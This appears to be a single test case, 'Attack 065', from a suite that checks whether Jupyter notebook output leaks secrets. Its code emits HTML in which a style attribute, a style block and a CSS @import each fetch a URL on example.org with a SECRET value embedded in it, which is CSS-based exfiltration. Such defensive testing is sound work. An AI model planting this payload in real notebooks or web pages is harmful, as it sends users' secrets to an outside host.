"""Attack 065: css url"""

IDEA = "A style that fetches."
SOURCE = "CSS exfiltration"
WAY = "iopub/display_data/data"
CODE = """
from IPython.display import HTML, display

display(
    HTML(
        '<p style="background: url(https://example.org/%s)">x</p><style>p {background: url(//example.org/%s)} @import "//example.org/%s";</style>'
        % (SECRET, SECRET, SECRET)
    )
)
"""
ABSENT = ["SECRET"]
